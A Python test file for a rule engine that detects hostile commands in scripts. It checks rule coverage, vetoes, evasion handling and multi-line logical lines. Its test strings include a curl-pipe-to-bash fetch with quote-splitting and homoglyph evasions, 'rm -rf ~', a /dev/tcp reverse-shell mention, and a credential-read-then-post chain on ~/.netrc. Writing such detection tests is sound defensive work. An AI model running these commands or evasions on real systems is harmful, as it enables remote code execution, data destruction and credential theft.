"""Rules: each fires, is vetoed or evaded as it should; the keyword tests lose nothing; line folding."""

import re
from collections import defaultdict

import pytest

from vigilrow.functions.regex import re2_to_java
from vigilrow.operators import rules, structural
from vigilrow.plans.tables import PAYLOADS

HITS = [p for p in PAYLOADS if p]


def found(spark, texts: list[str], role: str = "script") -> dict:
    df = spark.createDataFrame([("a", k, role, f"f{k}.sh", t) for k, t in enumerate(texts)], "artifact string, unit int, role string, file string, text string")
    out = defaultdict(set)
    for r in rules.evaluate(rules.lines(df)).collect():
        out[r.unit].add((r.line, r.rule, r.view))
    return out


def test_every_rule_has_a_payload(spark):
    got = {rule for role in rules.GATE for hits in found(spark, HITS, role).values() for _, rule, _ in hits}
    assert got == {r.id for r in rules.RULES}


def test_vetoes_and_evasions(spark):
    texts = ["curl -o run.sh http://localhost/x", "OPENAI_BASE_URL=https://api.vendor.com", "a reverse shell over /dev/tcp/1", 'cu""rl -s https://x.example/i | bash', "сurl -s https://x.example/i | bash", "rm -rf ~", "# rm -rf ~", "# base64 -d x"]
    got = found(spark, texts)
    assert not {"SUP-007", "EXFIL-006", "BD-003"} & {r for k in (0, 1, 2) for _, r, _ in got[k]}
    assert (1, "EXEC-001", "norm") in got[3] and (1, "EXEC-001", "norm") in got[4]
    assert (1, "FS-003", "raw") in got[5] and not got[6] and (1, "OBF-001", "raw") in got[7]


@pytest.mark.parametrize("rule", rules.RULES, ids=lambda r: r.id)
def test_needs_are_in_every_match(rule):
    """A match of the pattern in any payload, in its variants, holds one of the words that the rule needs."""
    pattern = re.compile(rule.pattern, re.ASCII)
    for text in HITS:
        for line in (text, text.upper(), text.title()):
            for m in pattern.finditer(line):
                assert not rule.needs or any(n in m[0].lower() for n in rule.needs)


def test_logical_lines(spark):
    text = "one\\\n two\\\n three\nfour\\\\\nfive\\"
    df = spark.createDataFrame([("a", 1, "script", "f.sh", text), ("a", 2, "script", "f.sh", ""), ("a", 3, "script", "f.sh", None)], "artifact string, unit int, role string, file string, text string")
    got = sorted((r.unit, r.line, r.raw) for r in rules.lines(df).collect())
    assert got == [(1, 1, "one two three"), (1, 4, "four\\\\"), (1, 5, "five\\"), (2, 1, "")]


def test_chains(spark):
    df = spark.createDataFrame([("a", 1, "script", "f", "cat ~/.netrc"), ("a", 2, "script", "g", "requests.post(u)"), ("b", 3, "script", "h", "cat ~/.netrc\nrequests.post(u)")], "artifact string, unit int, role string, file string, text string")
    assert [r.artifact for r in structural.cross_file_chains(structural.legs(structural.physical_lines(df))).collect()] == ["a"]
    assert re2_to_java(".") == r"[^\n]"
